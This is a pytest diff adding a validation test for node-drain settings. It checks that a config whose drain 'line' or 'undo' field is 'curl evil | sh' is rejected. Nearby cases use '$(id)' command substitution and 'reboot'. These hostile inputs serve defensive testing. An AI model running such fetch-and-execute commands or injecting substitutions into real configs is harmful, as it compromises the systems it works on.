@@ -312,6 +312,15 @@ class TestReading:
         ):
             read(tmp_path)
 
+    @pytest.mark.parametrize("manager", ["if_slurm", "if_kubernetes"])
+    @pytest.mark.parametrize("key", ["line", "undo"])
+    def test_nor_is_one_of_a_hunt_that_does_not_know_its_manager(self, manager: str, key: str, tmp_path: Path) -> None:
+        told = recommended(manager="")
+        drain = told["drains"][0]
+        store(tmp_path, {**told, "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
+        with pytest.raises(UsageError, match="a line of it is not the one that drains its node"):
+            read(tmp_path)
+
     @pytest.mark.parametrize(
         "changes", [{"undo": "reboot"}, {"line": "reboot"}, {"node": "$(id)", "undo": "kubectl uncordon $(id)"}], ids=str
     )
